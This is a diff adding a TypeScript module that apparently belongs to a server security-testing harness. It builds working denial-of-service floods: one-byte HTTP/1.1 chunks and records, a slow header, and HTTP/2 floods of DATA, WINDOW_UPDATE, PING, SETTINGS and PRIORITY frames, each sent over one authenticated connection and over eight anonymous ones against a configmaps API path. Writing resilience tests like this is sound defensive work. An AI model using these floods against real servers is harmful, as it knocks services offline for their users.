@@ -1,0 +1,126 @@
+// Bytes that come in the smallest parts there are: chunks, records and frames of one byte, on one connection and on many at once.
+
+import { sleep } from '../kit/fixtures.js'
+import { HeldSocket } from '../kit/held-socket.js'
+import { frame, headerBlock } from '../kit/raw-http2.js'
+import { listOf } from '../linear/shape.js'
+import type { Attack, Outcome, Target } from './attack.js'
+
+const preface = 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'
+/** How long what was sent is worked on at most. */
+const workMs = 700
+
+interface Flood {
+  readonly protocol: 'http/1.1' | 'h2'
+  /** Sent before, as usual. */
+  readonly opening: string | Buffer
+  readonly records: readonly (string | Buffer)[]
+}
+
+/** What is needed of it is made in advance, so that all of it is there at once. */
+async function flood({ server }: Target, connections: number, { protocol, opening, records }: Flood): Promise<Outcome> {
+  const sockets = await Promise.all(listOf(connections, () => HeldSocket.open(server.access, protocol)))
+  for (const socket of sockets) {
+    await socket.writeRecord(opening)
+    socket.hold()
+    for (const record of records) await socket.writeRecord(record)
+  }
+  await sleep(100)
+  for (const socket of sockets) socket.release()
+  await sleep(workMs)
+  for (const socket of sockets) socket.close()
+  return { status: 200, bytes: 0 }
+}
+
+const path = '/api/v1/namespaces/default/configmaps'
+const authorization = (token?: string): string => (token === undefined ? '' : `Authorization: Bearer ${token}\r\n`)
+const postHead = (token?: string): string => `POST ${path} HTTP/1.1\r\nHost: x\r\n${authorization(token)}Content-Type: application/json\r\n`
+const bytes = (count: number, of = ' '): string[] => Array.from({ length: count }, () => of)
+
+const h2Head = (token?: string): Buffer =>
+  Buffer.concat([
+    Buffer.from(preface),
+    frame(4, 0, 0),
+    frame(
+      1,
+      0x4,
+      1,
+      headerBlock({
+        ':method': 'POST',
+        ':scheme': 'https',
+        ':path': path,
+        ':authority': 'x',
+        ...(token === undefined ? {} : { authorization: `Bearer ${token}` }),
+      }),
+    ),
+  ])
+
+type Make = (token: string | undefined) => Flood
+
+const many = (bytes: Buffer, times: number, records: number): readonly Buffer[] =>
+  listOf(records, () => Buffer.concat(listOf(times, () => bytes)))
+
+const kinds: Readonly<Record<string, Make>> = {
+  'chunks of one byte': (token) => ({
+    protocol: 'http/1.1',
+    opening: `${postHead(token)}Transfer-Encoding: chunked\r\n\r\n`,
+    records: many(Buffer.from('1\r\n \r\n'), 5000, 20),
+  }),
+  'records of one byte': (token) => ({
+    protocol: 'http/1.1',
+    opening: `${postHead(token)}Content-Length: 2000000\r\n\r\n`,
+    records: bytes(12_000),
+  }),
+  'records of one byte in a head': () => ({ protocol: 'http/1.1', opening: 'GET / HTTP/1.1\r\nX: ', records: bytes(12_000, 'a') }),
+  'records of one chunk': (token) => ({
+    protocol: 'http/1.1',
+    opening: `${postHead(token)}Transfer-Encoding: chunked\r\n\r\n`,
+    records: bytes(12_000, '1\r\n \r\n'),
+  }),
+  'frames of one byte': (token) => ({
+    protocol: 'h2',
+    opening: h2Head(token),
+    records: many(frame(0, 0, 1, Buffer.from(' ')), 20_000, 10),
+  }),
+  'empty frames': (token) => ({
+    protocol: 'h2',
+    opening: h2Head(token),
+    records: many(frame(0, 0, 1), 20_000, 10),
+  }),
+  'HTTP/2 records of one byte': (token) => ({
+    protocol: 'h2',
+    opening: Buffer.concat([h2Head(token), frame(0, 0, 1, Buffer.alloc(0)), Buffer.from([0, 0x40, 0, 0, 0, 0, 0, 0, 1])]),
+    records: bytes(16_384).concat(...listOf(2, () => [Buffer.from([0, 0x40, 0, 0, 0, 0, 0, 0, 1]).toString('latin1'), ...bytes(16_384)])),
+  }),
+  WINDOW_UPDATE: () => ({
+    protocol: 'h2',
+    opening: h2Head(),
+    records: many(frame(8, 0, 0, Buffer.from([0, 0, 0, 1])), 10_000, 20),
+  }),
+  PING: () => ({
+    protocol: 'h2',
+    opening: h2Head(),
+    records: many(frame(6, 0, 0, Buffer.alloc(8)), 10_000, 20),
+  }),
+  SETTINGS: () => ({
+    protocol: 'h2',
+    opening: h2Head(),
+    records: many(frame(4, 0, 0), 10_000, 20),
+  }),
+  PRIORITY: () => ({
+    protocol: 'h2',
+    opening: h2Head(),
+    records: listOf(20, () => Buffer.concat(listOf(10_000, (i) => frame(2, 0, 2 * i + 3, Buffer.from([0, 0, 0, 1, 1]))))),
+  }),
+}
+
+const attackOf = (name: string, make: Make, connections: number, isKnown: boolean): Attack => ({
+  finding: 9,
+  name: `${name}, ${connections} connections, ${isKnown ? 'known' : 'anonymous'}`,
+  run: (target) => flood(target, connections, make(isKnown ? target.server.access.token : undefined)),
+})
+
+export const partAttacks: readonly Attack[] = Object.entries(kinds).flatMap(([name, make]) => [
+  attackOf(name, make, 1, true),
+  attackOf(name, make, 8, false),
+])
